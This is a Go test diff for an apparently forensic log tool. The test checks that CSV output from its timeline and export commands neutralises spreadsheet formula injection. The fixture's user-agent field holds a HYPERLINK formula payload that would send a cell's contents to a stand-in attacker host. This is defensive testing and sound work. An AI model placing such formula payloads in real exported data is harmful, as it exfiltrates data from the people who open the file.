@@ -286,3 +286,35 @@ func TestExportRefusals(t *testing.T) {
 		t.Errorf("scratch left behind: %v", leftovers)
 	}
 }
+
+// TestCSVDefusesFormulasInTimelineAndExport: an attacker's text that a
+// spreadsheet would run as a formula is defused the same way by `timeline
+// --format csv` and `export --format csv`.
+func TestCSVDefusesFormulasInTimelineAndExport(t *testing.T) {
+	dir := t.TempDir()
+	formula := ev{id: "f1", name: "GetCallerIdentity", source: "sts.amazonaws.com", key: "AKIAFFFFFFFFFFFFFFF1", arn: "arn:aws:iam::111111111111:user/eve",
+		ip: "198.51.100.66", account: "111111111111", region: "us-east-1", ua: `=HYPERLINK("https://evil.example/?"&A1,"click")`, sec: 5}
+	src := filepath.Join(dir, "events.jsonl")
+	if err := os.WriteFile(src, []byte(formula.json()+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	caseDir := filepath.Join(dir, "case")
+	if _, errOut, code := harrier(t, "ingest", "--case", caseDir, src); code != 0 {
+		t.Fatalf("ingest: exit %d %s", code, errOut)
+	}
+	tl, errOut, code := harrier(t, "timeline", "--case", caseDir, "--format", "csv")
+	if code != 0 {
+		t.Fatalf("timeline: exit %d %s", code, errOut)
+	}
+	ex := exportRead(t, "--case", caseDir, "--format", "csv")
+	want := `'` + formula.ua
+	for name, text := range map[string]string{"timeline": tl, "export": ex} {
+		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		if len(rows) != 2 || rows[1][8] != want {
+			t.Errorf("%s: user agent cell %q, want %q", name, rows[1][8], want)
+		}
+	}
+}
